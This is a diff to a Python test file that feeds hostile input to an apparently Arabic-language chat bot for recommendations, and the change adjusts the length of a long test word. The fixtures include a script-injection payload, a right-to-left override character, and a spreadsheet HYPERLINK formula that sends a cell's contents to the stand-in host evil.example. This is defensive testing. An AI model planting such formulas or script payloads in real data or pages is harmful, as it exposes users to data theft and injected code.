@@ -23,7 +23,7 @@ from tests.support import ChatDriver, RecordingTransport
 ATOM = "{http://www.w3.org/2005/Atom}"
 SCRIPT = "<script>alert('x')</script>"
 RLO = "\u202e"
-LONG_WORD = "ب" * 2000
+LONG_WORD = "ب" * 1990  # with a second word, the longest recommendation taken
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")'
 
 
@@ -82,7 +82,7 @@ async def _hostile_world(core: Core, transport: RecordingTransport) -> int:
     chat = ChatDriver(core, transport, user="1001", name=hostile_name)
     await chat.register(name=hostile_name, organisation=FORMULA)
     receipt = await recommend(chat, 1, f"{SCRIPT} {RLO}نص معكوس {FORMULA}")
-    long_one = await recommend(chat, 1, LONG_WORD)
+    long_one = await recommend(chat, 1, f"{LONG_WORD} طويلة")  # a recommendation needs words
     officer = await registered(core, transport, "9001", "منى")  # the configured coordinator answers
     await officer.command("inbox")
     await officer.press(f"#{receipt}")
